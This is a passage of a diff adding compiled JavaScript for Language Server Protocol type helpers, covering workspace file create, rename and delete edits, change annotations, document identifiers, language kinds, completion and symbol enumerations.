+        TextDocumentEdit.is = is;
+    })(TextDocumentEdit || (exports.TextDocumentEdit = TextDocumentEdit = {}));
+    var CreateFile;
+    (function (CreateFile) {
+        function create(uri, options, annotation) {
+            var result = {
+                kind: 'create',
+                uri: uri
+            };
+            if (options !== undefined && (options.overwrite !== undefined || options.ignoreIfExists !== undefined)) {
+                result.options = options;
+            }
+            if (annotation !== undefined) {
+                result.annotationId = annotation;
+            }
+            return result;
+        }
+        CreateFile.create = create;
+        function is(value) {
+            var candidate = value;
+            return candidate && candidate.kind === 'create' && Is.string(candidate.uri) && (candidate.options === undefined ||
+                ((candidate.options.overwrite === undefined || Is.boolean(candidate.options.overwrite)) && (candidate.options.ignoreIfExists === undefined || Is.boolean(candidate.options.ignoreIfExists)))) && (candidate.annotationId === undefined || ChangeAnnotationIdentifier.is(candidate.annotationId));
+        }
+        CreateFile.is = is;
+    })(CreateFile || (exports.CreateFile = CreateFile = {}));
+    var RenameFile;
+    (function (RenameFile) {
+        function create(oldUri, newUri, options, annotation) {
+            var result = {
+                kind: 'rename',
+                oldUri: oldUri,
+                newUri: newUri
+            };
+            if (options !== undefined && (options.overwrite !== undefined || options.ignoreIfExists !== undefined)) {
+                result.options = options;
+            }
+            if (annotation !== undefined) {
+                result.annotationId = annotation;
+            }
+            return result;
+        }
+        RenameFile.create = create;
+        function is(value) {
+            var candidate = value;
+            return candidate && candidate.kind === 'rename' && Is.string(candidate.oldUri) && Is.string(candidate.newUri) && (candidate.options === undefined ||
+                ((candidate.options.overwrite === undefined || Is.boolean(candidate.options.overwrite)) && (candidate.options.ignoreIfExists === undefined || Is.boolean(candidate.options.ignoreIfExists)))) && (candidate.annotationId === undefined || ChangeAnnotationIdentifier.is(candidate.annotationId));
+        }
+        RenameFile.is = is;
+    })(RenameFile || (exports.RenameFile = RenameFile = {}));
+    var DeleteFile;
+    (function (DeleteFile) {
+        function create(uri, options, annotation) {
+            var result = {
+                kind: 'delete',
+                uri: uri
+            };
+            if (options !== undefined && (options.recursive !== undefined || options.ignoreIfNotExists !== undefined)) {
+                result.options = options;
+            }
+            if (annotation !== undefined) {
+                result.annotationId = annotation;
+            }
+            return result;
+        }
+        DeleteFile.create = create;
+        function is(value) {
+            var candidate = value;
+            return candidate && candidate.kind === 'delete' && Is.string(candidate.uri) && (candidate.options === undefined ||
+                ((candidate.options.recursive === undefined || Is.boolean(candidate.options.recursive)) && (candidate.options.ignoreIfNotExists === undefined || Is.boolean(candidate.options.ignoreIfNotExists)))) && (candidate.annotationId === undefined || ChangeAnnotationIdentifier.is(candidate.annotationId));
+        }
+        DeleteFile.is = is;
+    })(DeleteFile || (exports.DeleteFile = DeleteFile = {}));
+    var WorkspaceEdit;
+    (function (WorkspaceEdit) {
+        function is(value) {
+            var candidate = value;
+            return candidate &&
+                (candidate.changes !== undefined || candidate.documentChanges !== undefined) &&
+                (candidate.documentChanges === undefined || candidate.documentChanges.every(function (change) {
+                    if (Is.string(change.kind)) {
+                        return CreateFile.is(change) || RenameFile.is(change) || DeleteFile.is(change);
+                    }
+                    else {
+                        return TextDocumentEdit.is(change);
+                    }
+                }));
+        }
+        WorkspaceEdit.is = is;
+    })(WorkspaceEdit || (exports.WorkspaceEdit = WorkspaceEdit = {}));
+    var TextEditChangeImpl = /** @class */ (function () {
+        function TextEditChangeImpl(edits, changeAnnotations) {
+            this.edits = edits;
+            this.changeAnnotations = changeAnnotations;
+        }
+        TextEditChangeImpl.prototype.insert = function (position, newText, annotation) {
+            var edit;
+            var id;
+            if (annotation === undefined) {
+                edit = TextEdit.insert(position, newText);
+            }
+            else if (ChangeAnnotationIdentifier.is(annotation)) {
+                id = annotation;
+                edit = AnnotatedTextEdit.insert(position, newText, annotation);
+            }
+            else {
+                this.assertChangeAnnotations(this.changeAnnotations);
+                id = this.changeAnnotations.manage(annotation);
+                edit = AnnotatedTextEdit.insert(position, newText, id);
+            }
+            this.edits.push(edit);
+            if (id !== undefined) {
+                return id;
+            }
+        };
+        TextEditChangeImpl.prototype.replace = function (range, newText, annotation) {
+            var edit;
+            var id;
+            if (annotation === undefined) {
+                edit = TextEdit.replace(range, newText);
+            }
+            else if (ChangeAnnotationIdentifier.is(annotation)) {
+                id = annotation;
+                edit = AnnotatedTextEdit.replace(range, newText, annotation);
+            }
+            else {
+                this.assertChangeAnnotations(this.changeAnnotations);
+                id = this.changeAnnotations.manage(annotation);
+                edit = AnnotatedTextEdit.replace(range, newText, id);
+            }
+            this.edits.push(edit);
+            if (id !== undefined) {
+                return id;
+            }
+        };
+        TextEditChangeImpl.prototype.delete = function (range, annotation) {
+            var edit;
+            var id;
+            if (annotation === undefined) {
+                edit = TextEdit.del(range);
+            }
+            else if (ChangeAnnotationIdentifier.is(annotation)) {
+                id = annotation;
+                edit = AnnotatedTextEdit.del(range, annotation);
+            }
+            else {
+                this.assertChangeAnnotations(this.changeAnnotations);
+                id = this.changeAnnotations.manage(annotation);
+                edit = AnnotatedTextEdit.del(range, id);
+            }
+            this.edits.push(edit);
+            if (id !== undefined) {
+                return id;
+            }
+        };
+        TextEditChangeImpl.prototype.add = function (edit) {
+            this.edits.push(edit);
+        };
+        TextEditChangeImpl.prototype.all = function () {
+            return this.edits;
+        };
+        TextEditChangeImpl.prototype.clear = function () {
+            this.edits.splice(0, this.edits.length);
+        };
+        TextEditChangeImpl.prototype.assertChangeAnnotations = function (value) {
+            if (value === undefined) {
+                throw new Error("Text edit change is not configured to manage change annotations.");
+            }
+        };
+        return TextEditChangeImpl;
+    }());
+    var SnippetTextEdit;
+    (function (SnippetTextEdit) {
+        function is(value) {
+            var candidate = value;
+            return Is.objectLiteral(candidate)
+                && Range.is(candidate.range)
+                && StringValue.isSnippet(candidate.snippet)
+                && (candidate.annotationId === undefined ||
+                    (ChangeAnnotation.is(candidate.annotationId) || ChangeAnnotationIdentifier.is(candidate.annotationId)));
+        }
+        SnippetTextEdit.is = is;
+    })(SnippetTextEdit || (exports.SnippetTextEdit = SnippetTextEdit = {}));
+    /**
+     * A helper class
+     */
+    var ChangeAnnotations = /** @class */ (function () {
+        function ChangeAnnotations(annotations) {
+            this._annotations = annotations === undefined ? Object.create(null) : annotations;
+            this._counter = 0;
+            this._size = 0;
+        }
+        ChangeAnnotations.prototype.all = function () {
+            return this._annotations;
+        };
+        Object.defineProperty(ChangeAnnotations.prototype, "size", {
+            get: function () {
+                return this._size;
+            },
+            enumerable: false,
+            configurable: true
+        });
+        ChangeAnnotations.prototype.manage = function (idOrAnnotation, annotation) {
+            var id;
+            if (ChangeAnnotationIdentifier.is(idOrAnnotation)) {
+                id = idOrAnnotation;
+            }
+            else {
+                id = this.nextId();
+                annotation = idOrAnnotation;
+            }
+            if (this._annotations[id] !== undefined) {
+                throw new Error("Id ".concat(id, " is already in use."));
+            }
+            if (annotation === undefined) {
+                throw new Error("No annotation provided for id ".concat(id));
+            }
+            this._annotations[id] = annotation;
+            this._size++;
+            return id;
+        };
+        ChangeAnnotations.prototype.nextId = function () {
+            this._counter++;
+            return this._counter.toString();
+        };
+        return ChangeAnnotations;
+    }());
+    /**
+     * A workspace change helps constructing changes to a workspace.
+     */
+    var WorkspaceChange = /** @class */ (function () {
+        function WorkspaceChange(workspaceEdit) {
+            var _this = this;
+            this._textEditChanges = Object.create(null);
+            if (workspaceEdit !== undefined) {
+                this._workspaceEdit = workspaceEdit;
+                if (workspaceEdit.documentChanges) {
+                    this._changeAnnotations = new ChangeAnnotations(workspaceEdit.changeAnnotations);
+                    workspaceEdit.changeAnnotations = this._changeAnnotations.all();
+                    workspaceEdit.documentChanges.forEach(function (change) {
+                        if (TextDocumentEdit.is(change)) {
+                            var textEditChange = new TextEditChangeImpl(change.edits, _this._changeAnnotations);
+                            _this._textEditChanges[change.textDocument.uri] = textEditChange;
+                        }
+                    });
+                }
+                else if (workspaceEdit.changes) {
+                    Object.keys(workspaceEdit.changes).forEach(function (key) {
+                        var textEditChange = new TextEditChangeImpl(workspaceEdit.changes[key]);
+                        _this._textEditChanges[key] = textEditChange;
+                    });
+                }
+            }
+            else {
+                this._workspaceEdit = {};
+            }
+        }
+        Object.defineProperty(WorkspaceChange.prototype, "edit", {
+            /**
+             * Returns the underlying {@link WorkspaceEdit} literal
+             * use to be returned from a workspace edit operation like rename.
+             */
+            get: function () {
+                this.initDocumentChanges();
+                if (this._changeAnnotations !== undefined) {
+                    if (this._changeAnnotations.size === 0) {
+                        this._workspaceEdit.changeAnnotations = undefined;
+                    }
+                    else {
+                        this._workspaceEdit.changeAnnotations = this._changeAnnotations.all();
+                    }
+                }
+                return this._workspaceEdit;
+            },
+            enumerable: false,
+            configurable: true
+        });
+        WorkspaceChange.prototype.getTextEditChange = function (key) {
+            if (OptionalVersionedTextDocumentIdentifier.is(key)) {
+                this.initDocumentChanges();
+                if (this._workspaceEdit.documentChanges === undefined) {
+                    throw new Error('Workspace edit is not configured for document changes.');
+                }
+                var textDocument = { uri: key.uri, version: key.version };
+                var result = this._textEditChanges[textDocument.uri];
+                if (!result) {
+                    var edits = [];
+                    var textDocumentEdit = {
+                        textDocument: textDocument,
+                        edits: edits
+                    };
+                    this._workspaceEdit.documentChanges.push(textDocumentEdit);
+                    result = new TextEditChangeImpl(edits, this._changeAnnotations);
+                    this._textEditChanges[textDocument.uri] = result;
+                }
+                return result;
+            }
+            else {
+                this.initChanges();
+                if (this._workspaceEdit.changes === undefined) {
+                    throw new Error('Workspace edit is not configured for normal text edit changes.');
+                }
+                var result = this._textEditChanges[key];
+                if (!result) {
+                    var edits = [];
+                    this._workspaceEdit.changes[key] = edits;
+                    result = new TextEditChangeImpl(edits);
+                    this._textEditChanges[key] = result;
+                }
+                return result;
+            }
+        };
+        WorkspaceChange.prototype.initDocumentChanges = function () {
+            if (this._workspaceEdit.documentChanges === undefined && this._workspaceEdit.changes === undefined) {
+                this._changeAnnotations = new ChangeAnnotations();
+                this._workspaceEdit.documentChanges = [];
+                this._workspaceEdit.changeAnnotations = this._changeAnnotations.all();
+            }
+        };
+        WorkspaceChange.prototype.initChanges = function () {
+            if (this._workspaceEdit.documentChanges === undefined && this._workspaceEdit.changes === undefined) {
+                this._workspaceEdit.changes = Object.create(null);
+            }
+        };
+        WorkspaceChange.prototype.createFile = function (uri, optionsOrAnnotation, options) {
+            this.initDocumentChanges();
+            if (this._workspaceEdit.documentChanges === undefined) {
+                throw new Error('Workspace edit is not configured for document changes.');
+            }
+            var annotation;
+            if (ChangeAnnotation.is(optionsOrAnnotation) || ChangeAnnotationIdentifier.is(optionsOrAnnotation)) {
+                annotation = optionsOrAnnotation;
+            }
+            else {
+                options = optionsOrAnnotation;
+            }
+            var operation;
+            var id;
+            if (annotation === undefined) {
+                operation = CreateFile.create(uri, options);
+            }
+            else {
+                id = ChangeAnnotationIdentifier.is(annotation) ? annotation : this._changeAnnotations.manage(annotation);
+                operation = CreateFile.create(uri, options, id);
+            }
+            this._workspaceEdit.documentChanges.push(operation);
+            if (id !== undefined) {
+                return id;
+            }
+        };
+        WorkspaceChange.prototype.renameFile = function (oldUri, newUri, optionsOrAnnotation, options) {
+            this.initDocumentChanges();
+            if (this._workspaceEdit.documentChanges === undefined) {
+                throw new Error('Workspace edit is not configured for document changes.');
+            }
+            var annotation;
+            if (ChangeAnnotation.is(optionsOrAnnotation) || ChangeAnnotationIdentifier.is(optionsOrAnnotation)) {
+                annotation = optionsOrAnnotation;
+            }
+            else {
+                options = optionsOrAnnotation;
+            }
+            var operation;
+            var id;
+            if (annotation === undefined) {
+                operation = RenameFile.create(oldUri, newUri, options);
+            }
+            else {
+                id = ChangeAnnotationIdentifier.is(annotation) ? annotation : this._changeAnnotations.manage(annotation);
+                operation = RenameFile.create(oldUri, newUri, options, id);
+            }
+            this._workspaceEdit.documentChanges.push(operation);
+            if (id !== undefined) {
+                return id;
+            }
+        };
+        WorkspaceChange.prototype.deleteFile = function (uri, optionsOrAnnotation, options) {
+            this.initDocumentChanges();
+            if (this._workspaceEdit.documentChanges === undefined) {
+                throw new Error('Workspace edit is not configured for document changes.');
+            }
+            var annotation;
+            if (ChangeAnnotation.is(optionsOrAnnotation) || ChangeAnnotationIdentifier.is(optionsOrAnnotation)) {
+                annotation = optionsOrAnnotation;
+            }
+            else {
+                options = optionsOrAnnotation;
+            }
+            var operation;
+            var id;
+            if (annotation === undefined) {
+                operation = DeleteFile.create(uri, options);
+            }
+            else {
+                id = ChangeAnnotationIdentifier.is(annotation) ? annotation : this._changeAnnotations.manage(annotation);
+                operation = DeleteFile.create(uri, options, id);
+            }
+            this._workspaceEdit.documentChanges.push(operation);
+            if (id !== undefined) {
+                return id;
+            }
+        };
+        return WorkspaceChange;
+    }());
+    exports.WorkspaceChange = WorkspaceChange;
+    /**
+     * The TextDocumentIdentifier namespace provides helper functions to work with
+     * {@link TextDocumentIdentifier} literals.
+     */
+    var TextDocumentIdentifier;
+    (function (TextDocumentIdentifier) {
+        /**
+         * Creates a new TextDocumentIdentifier literal.
+         * @param uri The document's uri.
+         */
+        function create(uri) {
+            return { uri: uri };
+        }
+        TextDocumentIdentifier.create = create;
+        /**
+         * Checks whether the given literal conforms to the {@link TextDocumentIdentifier} interface.
+         */
+        function is(value) {
+            var candidate = value;
+            return Is.defined(candidate) && Is.string(candidate.uri);
+        }
+        TextDocumentIdentifier.is = is;
+    })(TextDocumentIdentifier || (exports.TextDocumentIdentifier = TextDocumentIdentifier = {}));
+    /**
+     * The VersionedTextDocumentIdentifier namespace provides helper functions to work with
+     * {@link VersionedTextDocumentIdentifier} literals.
+     */
+    var VersionedTextDocumentIdentifier;
+    (function (VersionedTextDocumentIdentifier) {
+        /**
+         * Creates a new VersionedTextDocumentIdentifier literal.
+         * @param uri The document's uri.
+         * @param version The document's version.
+         */
+        function create(uri, version) {
+            return { uri: uri, version: version };
+        }
+        VersionedTextDocumentIdentifier.create = create;
+        /**
+         * Checks whether the given literal conforms to the {@link VersionedTextDocumentIdentifier} interface.
+         */
+        function is(value) {
+            var candidate = value;
+            return Is.defined(candidate) && Is.string(candidate.uri) && Is.integer(candidate.version);
+        }
+        VersionedTextDocumentIdentifier.is = is;
+    })(VersionedTextDocumentIdentifier || (exports.VersionedTextDocumentIdentifier = VersionedTextDocumentIdentifier = {}));
+    /**
+     * The OptionalVersionedTextDocumentIdentifier namespace provides helper functions to work with
+     * {@link OptionalVersionedTextDocumentIdentifier} literals.
+     */
+    var OptionalVersionedTextDocumentIdentifier;
+    (function (OptionalVersionedTextDocumentIdentifier) {
+        /**
+         * Creates a new OptionalVersionedTextDocumentIdentifier literal.
+         * @param uri The document's uri.
+         * @param version The document's version.
+         */
+        function create(uri, version) {
+            return { uri: uri, version: version };
+        }
+        OptionalVersionedTextDocumentIdentifier.create = create;
+        /**
+         * Checks whether the given literal conforms to the {@link OptionalVersionedTextDocumentIdentifier} interface.
+         */
+        function is(value) {
+            var candidate = value;
+            return Is.defined(candidate) && Is.string(candidate.uri) && (candidate.version === null || Is.integer(candidate.version));
+        }
+        OptionalVersionedTextDocumentIdentifier.is = is;
+    })(OptionalVersionedTextDocumentIdentifier || (exports.OptionalVersionedTextDocumentIdentifier = OptionalVersionedTextDocumentIdentifier = {}));
+    /**
+     * Predefined Language kinds
+     * @since 3.18.0
+     */
+    var LanguageKind;
+    (function (LanguageKind) {
+        LanguageKind.ABAP = 'abap';
+        LanguageKind.WindowsBat = 'bat';
+        LanguageKind.BibTeX = 'bibtex';
+        LanguageKind.Clojure = 'clojure';
+        LanguageKind.Coffeescript = 'coffeescript';
+        LanguageKind.C = 'c';
+        LanguageKind.CPP = 'cpp';
+        LanguageKind.CSharp = 'csharp';
+        LanguageKind.CSS = 'css';
+        /**
+         * @since 3.18.0
+         */
+        LanguageKind.D = 'd';
+        /**
+         * @since 3.18.0
+         */
+        LanguageKind.Delphi = 'pascal';
+        LanguageKind.Diff = 'diff';
+        LanguageKind.Dart = 'dart';
+        LanguageKind.Dockerfile = 'dockerfile';
+        LanguageKind.Elixir = 'elixir';
+        LanguageKind.Erlang = 'erlang';
+        LanguageKind.FSharp = 'fsharp';
+        LanguageKind.GitCommit = 'git-commit';
+        LanguageKind.GitRebase = 'git-rebase';
+        LanguageKind.Go = 'go';
+        LanguageKind.Groovy = 'groovy';
+        LanguageKind.Handlebars = 'handlebars';
+        LanguageKind.Haskell = 'haskell';
+        LanguageKind.HTML = 'html';
+        LanguageKind.Ini = 'ini';
+        LanguageKind.Java = 'java';
+        LanguageKind.JavaScript = 'javascript';
+        LanguageKind.JavaScriptReact = 'javascriptreact';
+        LanguageKind.JSON = 'json';
+        LanguageKind.LaTeX = 'latex';
+        LanguageKind.Less = 'less';
+        LanguageKind.Lua = 'lua';
+        LanguageKind.Makefile = 'makefile';
+        LanguageKind.Markdown = 'markdown';
+        LanguageKind.ObjectiveC = 'objective-c';
+        LanguageKind.ObjectiveCPP = 'objective-cpp';
+        /**
+         * @since 3.18.0
+         */
+        LanguageKind.Pascal = 'pascal';
+        LanguageKind.Perl = 'perl';
+        LanguageKind.Perl6 = 'perl6';
+        LanguageKind.PHP = 'php';
+        LanguageKind.Plaintext = 'plaintext';
+        LanguageKind.Powershell = 'powershell';
+        LanguageKind.Pug = 'jade';
+        LanguageKind.Python = 'python';
+        LanguageKind.R = 'r';
+        LanguageKind.Razor = 'razor';
+        LanguageKind.Ruby = 'ruby';
+        LanguageKind.Rust = 'rust';
+        LanguageKind.SCSS = 'scss';
+        LanguageKind.SASS = 'sass';
+        LanguageKind.Scala = 'scala';
+        LanguageKind.ShaderLab = 'shaderlab';
+        LanguageKind.ShellScript = 'shellscript';
+        LanguageKind.SQL = 'sql';
+        LanguageKind.Swift = 'swift';
+        LanguageKind.TypeScript = 'typescript';
+        LanguageKind.TypeScriptReact = 'typescriptreact';
+        LanguageKind.TeX = 'tex';
+        LanguageKind.VisualBasic = 'vb';
+        LanguageKind.XML = 'xml';
+        LanguageKind.XSL = 'xsl';
+        LanguageKind.YAML = 'yaml';
+    })(LanguageKind || (exports.LanguageKind = LanguageKind = {}));
+    /**
+     * The TextDocumentItem namespace provides helper functions to work with
+     * {@link TextDocumentItem} literals.
+     */
+    var TextDocumentItem;
+    (function (TextDocumentItem) {
+        /**
+         * Creates a new TextDocumentItem literal.
+         * @param uri The document's uri.
+         * @param languageId The document's language identifier.
+         * @param version The document's version number.
+         * @param text The document's text.
+         */
+        function create(uri, languageId, version, text) {
+            return { uri: uri, languageId: languageId, version: version, text: text };
+        }
+        TextDocumentItem.create = create;
+        /**
+         * Checks whether the given literal conforms to the {@link TextDocumentItem} interface.
+         */
+        function is(value) {
+            var candidate = value;
+            return Is.defined(candidate) && Is.string(candidate.uri) && Is.string(candidate.languageId) && Is.integer(candidate.version) && Is.string(candidate.text);
+        }
+        TextDocumentItem.is = is;
+    })(TextDocumentItem || (exports.TextDocumentItem = TextDocumentItem = {}));
+    /**
+     * Describes the content type that a client supports in various
+     * result literals like `Hover`, `ParameterInfo` or `CompletionItem`.
+     *
+     * Please note that `MarkupKinds` must not start with a `$`. This kinds
+     * are reserved for internal usage.
+     */
+    var MarkupKind;
+    (function (MarkupKind) {
+        /**
+         * Plain text is supported as a content format
+         */
+        MarkupKind.PlainText = 'plaintext';
+        /**
+         * Markdown is supported as a content format
+         */
+        MarkupKind.Markdown = 'markdown';
+        /**
+         * Checks whether the given value is a value of the {@link MarkupKind} type.
+         */
+        function is(value) {
+            var candidate = value;
+            return candidate === MarkupKind.PlainText || candidate === MarkupKind.Markdown;
+        }
+        MarkupKind.is = is;
+    })(MarkupKind || (exports.MarkupKind = MarkupKind = {}));
+    var MarkupContent;
+    (function (MarkupContent) {
+        /**
+         * Checks whether the given value conforms to the {@link MarkupContent} interface.
+         */
+        function is(value) {
+            var candidate = value;
+            return Is.objectLiteral(value) && MarkupKind.is(candidate.kind) && Is.string(candidate.value);
+        }
+        MarkupContent.is = is;
+    })(MarkupContent || (exports.MarkupContent = MarkupContent = {}));
+    /**
+     * The kind of a completion entry.
+     */
+    var CompletionItemKind;
+    (function (CompletionItemKind) {
+        CompletionItemKind.Text = 1;
+        CompletionItemKind.Method = 2;
+        CompletionItemKind.Function = 3;
+        CompletionItemKind.Constructor = 4;
+        CompletionItemKind.Field = 5;
+        CompletionItemKind.Variable = 6;
+        CompletionItemKind.Class = 7;
+        CompletionItemKind.Interface = 8;
+        CompletionItemKind.Module = 9;
+        CompletionItemKind.Property = 10;
+        CompletionItemKind.Unit = 11;
+        CompletionItemKind.Value = 12;
+        CompletionItemKind.Enum = 13;
+        CompletionItemKind.Keyword = 14;
+        CompletionItemKind.Snippet = 15;
+        CompletionItemKind.Color = 16;
+        CompletionItemKind.File = 17;
+        CompletionItemKind.Reference = 18;
+        CompletionItemKind.Folder = 19;
+        CompletionItemKind.EnumMember = 20;
+        CompletionItemKind.Constant = 21;
+        CompletionItemKind.Struct = 22;
+        CompletionItemKind.Event = 23;
+        CompletionItemKind.Operator = 24;
+        CompletionItemKind.TypeParameter = 25;
+    })(CompletionItemKind || (exports.CompletionItemKind = CompletionItemKind = {}));
+    /**
+     * Defines whether the insert text in a completion item should be interpreted as
+     * plain text or a snippet.
+     */
+    var InsertTextFormat;
+    (function (InsertTextFormat) {
+        /**
+         * The primary text to be inserted is treated as a plain string.
+         */
+        InsertTextFormat.PlainText = 1;
+        /**
+         * The primary text to be inserted is treated as a snippet.
+         *
+         * A snippet can define tab stops and placeholders with `$1`, `$2`
+         * and `${3:foo}`. `$0` defines the final tab stop, it defaults to
+         * the end of the snippet. Placeholders with equal identifiers are linked,
+         * that is typing in one will update others too.
+         *
+         * See also: https://microsoft.github.io/language-server-protocol/specifications/specification-current/#snippet_syntax
+         */
+        InsertTextFormat.Snippet = 2;
+    })(InsertTextFormat || (exports.InsertTextFormat = InsertTextFormat = {}));
+    /**
+     * Completion item tags are extra annotations that tweak the rendering of a completion
+     * item.
+     *
+     * @since 3.15.0
+     */
+    var CompletionItemTag;
+    (function (CompletionItemTag) {
+        /**
+         * Render a completion as obsolete, usually using a strike-out.
+         */
+        CompletionItemTag.Deprecated = 1;
+    })(CompletionItemTag || (exports.CompletionItemTag = CompletionItemTag = {}));
+    /**
+     * The InsertReplaceEdit namespace provides functions to deal with insert / replace edits.
+     *
+     * @since 3.16.0
+     */
+    var InsertReplaceEdit;
+    (function (InsertReplaceEdit) {
+        /**
+         * Creates a new insert / replace edit
+         */
+        function create(newText, insert, replace) {
+            return { newText: newText, insert: insert, replace: replace };
+        }
+        InsertReplaceEdit.create = create;
+        /**
+         * Checks whether the given literal conforms to the {@link InsertReplaceEdit} interface.
+         */
+        function is(value) {
+            var candidate = value;
+            return candidate && Is.string(candidate.newText) && Range.is(candidate.insert) && Range.is(candidate.replace);
+        }
+        InsertReplaceEdit.is = is;
+    })(InsertReplaceEdit || (exports.InsertReplaceEdit = InsertReplaceEdit = {}));
+    /**
+     * How whitespace and indentation is handled during completion
+     * item insertion.
+     *
+     * @since 3.16.0
+     */
+    var InsertTextMode;
+    (function (InsertTextMode) {
+        /**
+         * The insertion or replace strings is taken as it is. If the
+         * value is multi line the lines below the cursor will be
+         * inserted using the indentation defined in the string value.
+         * The client will not apply any kind of adjustments to the
+         * string.
+         */
+        InsertTextMode.asIs = 1;
+        /**
+         * The editor adjusts leading whitespace of new lines so that
+         * they match the indentation up to the cursor of the line for
+         * which the item is accepted.
+         *
+         * Consider a line like this: <2tabs><cursor><3tabs>foo. Accepting a
+         * multi line completion item is indented using 2 tabs and all
+         * following lines inserted will be indented using 2 tabs as well.
+         */
+        InsertTextMode.adjustIndentation = 2;
+    })(InsertTextMode || (exports.InsertTextMode = InsertTextMode = {}));
+    /**
+     * Defines how values from a set of defaults and an individual item will be
+     * merged.
+     *
+     * @since 3.18.0
+     */
+    var ApplyKind;
+    (function (ApplyKind) {
+        /**
+         * The value from the individual item (if provided and not `null`) will be
+         * used instead of the default.
+         */
+        ApplyKind.Replace = 1;
+        /**
+         * The value from the item will be merged with the default.
+         *
+         * The specific rules for mergeing values are defined against each field
+         * that supports merging.
+         */
+        ApplyKind.Merge = 2;
+    })(ApplyKind || (exports.ApplyKind = ApplyKind = {}));
+    var CompletionItemLabelDetails;
+    (function (CompletionItemLabelDetails) {
+        function is(value) {
+            var candidate = value;
+            return candidate && (Is.string(candidate.detail) || candidate.detail === undefined) &&
+                (Is.string(candidate.description) || candidate.description === undefined);
+        }
+        CompletionItemLabelDetails.is = is;
+    })(CompletionItemLabelDetails || (exports.CompletionItemLabelDetails = CompletionItemLabelDetails = {}));
+    /**
+     * The CompletionItem namespace provides functions to deal with
+     * completion items.
+     */
+    var CompletionItem;
+    (function (CompletionItem) {
+        /**
+         * Create a completion item and seed it with a label.
+         * @param label The completion item's label
+         */
+        function create(label) {
+            return { label: label };
+        }
+        CompletionItem.create = create;
+    })(CompletionItem || (exports.CompletionItem = CompletionItem = {}));
+    /**
+     * The CompletionList namespace provides functions to deal with
+     * completion lists.
+     */
+    var CompletionList;
+    (function (CompletionList) {
+        /**
+         * Creates a new completion list.
+         *
+         * @param items The completion items.
+         * @param isIncomplete The list is not complete.
+         */
+        function create(items, isIncomplete) {
+            return { items: items ? items : [], isIncomplete: !!isIncomplete };
+        }
+        CompletionList.create = create;
+    })(CompletionList || (exports.CompletionList = CompletionList = {}));
+    var MarkedString;
+    (function (MarkedString) {
+        /**
+         * Creates a marked string from plain text.
+         *
+         * @param plainText The plain text.
+         */
+        function fromPlainText(plainText) {
+            return plainText.replace(/[\\`*_{}[\]()#+\-.!]/g, '\\$&'); // escape markdown syntax tokens: http://daringfireball.net/projects/markdown/syntax#backslash
+        }
+        MarkedString.fromPlainText = fromPlainText;
+        /**
+         * Checks whether the given value conforms to the {@link MarkedString} type.
+         */
+        function is(value) {
+            var candidate = value;
+            return Is.string(candidate) || (Is.objectLiteral(candidate) && Is.string(candidate.language) && Is.string(candidate.value));
+        }
+        MarkedString.is = is;
+    })(MarkedString || (exports.MarkedString = MarkedString = {}));
+    var Hover;
+    (function (Hover) {
+        /**
+         * Checks whether the given value conforms to the {@link Hover} interface.
+         */
+        function is(value) {
+            var candidate = value;
+            return !!candidate && Is.objectLiteral(candidate) && (MarkupContent.is(candidate.contents) ||
+                MarkedString.is(candidate.contents) ||
+                Is.typedArray(candidate.contents, MarkedString.is)) && (value.range === undefined || Range.is(value.range));
+        }
+        Hover.is = is;
+    })(Hover || (exports.Hover = Hover = {}));
+    /**
+     * The ParameterInformation namespace provides helper functions to work with
+     * {@link ParameterInformation} literals.
+     */
+    var ParameterInformation;
+    (function (ParameterInformation) {
+        /**
+         * Creates a new parameter information literal.
+         *
+         * @param label A label string.
+         * @param documentation A doc string.
+         */
+        function create(label, documentation) {
+            return documentation ? { label: label, documentation: documentation } : { label: label };
+        }
+        ParameterInformation.create = create;
+    })(ParameterInformation || (exports.ParameterInformation = ParameterInformation = {}));
+    /**
+     * The SignatureInformation namespace provides helper functions to work with
+     * {@link SignatureInformation} literals.
+     */
+    var SignatureInformation;
+    (function (SignatureInformation) {
+        function create(label, documentation) {
+            var parameters = [];
+            for (var _i = 2; _i < arguments.length; _i++) {
+                parameters[_i - 2] = arguments[_i];
+            }
+            var result = { label: label };
+            if (Is.defined(documentation)) {
+                result.documentation = documentation;
+            }
+            if (Is.defined(parameters)) {
+                result.parameters = parameters;
+            }
+            else {
+                result.parameters = [];
+            }
+            return result;
+        }
+        SignatureInformation.create = create;
+    })(SignatureInformation || (exports.SignatureInformation = SignatureInformation = {}));
+    /**
+     * A document highlight kind.
+     */
+    var DocumentHighlightKind;
+    (function (DocumentHighlightKind) {
+        /**
+         * A textual occurrence.
+         */
+        DocumentHighlightKind.Text = 1;
+        /**
+         * Read-access of a symbol, like reading a variable.
+         */
+        DocumentHighlightKind.Read = 2;
+        /**
+         * Write-access of a symbol, like writing to a variable.
+         */
+        DocumentHighlightKind.Write = 3;
+    })(DocumentHighlightKind || (exports.DocumentHighlightKind = DocumentHighlightKind = {}));
+    /**
+     * DocumentHighlight namespace to provide helper functions to work with
+     * {@link DocumentHighlight} literals.
+     */
+    var DocumentHighlight;
+    (function (DocumentHighlight) {
+        /**
+         * Create a DocumentHighlight object.
+         * @param range The range the highlight applies to.
+         * @param kind The highlight kind
+         */
+        function create(range, kind) {
+            var result = { range: range };
+            if (Is.number(kind)) {
+                result.kind = kind;
+            }
+            return result;
+        }
+        DocumentHighlight.create = create;
+    })(DocumentHighlight || (exports.DocumentHighlight = DocumentHighlight = {}));
+    /**
+     * A symbol kind.
+     */
+    var SymbolKind;
+    (function (SymbolKind) {
+        SymbolKind.File = 1;
+        SymbolKind.Module = 2;
+        SymbolKind.Namespace = 3;
+        SymbolKind.Package = 4;
+        SymbolKind.Class = 5;
+        SymbolKind.Method = 6;
+        SymbolKind.Property = 7;
+        SymbolKind.Field = 8;
+        SymbolKind.Constructor = 9;
+        SymbolKind.Enum = 10;
+        SymbolKind.Interface = 11;
+        SymbolKind.Function = 12;
+        SymbolKind.Variable = 13;
+        SymbolKind.Constant = 14;
+        SymbolKind.String = 15;
+        SymbolKind.Number = 16;
+        SymbolKind.Boolean = 17;
+        SymbolKind.Array = 18;
+        SymbolKind.Object = 19;
+        SymbolKind.Key = 20;
+        SymbolKind.Null = 21;
+        SymbolKind.EnumMember = 22;
+        SymbolKind.Struct = 23;
+        SymbolKind.Event = 24;
+        SymbolKind.Operator = 25;
+        SymbolKind.TypeParameter = 26;
+    })(SymbolKind || (exports.SymbolKind = SymbolKind = {}));
+    /**
+     * Symbol tags are extra annotations that tweak the rendering of a symbol.
+     *
+     * @since 3.16
+     */
+    var SymbolTag;
+    (function (SymbolTag) {
+        /**
+         * Render a symbol as obsolete, usually using a strike-out.
+         */
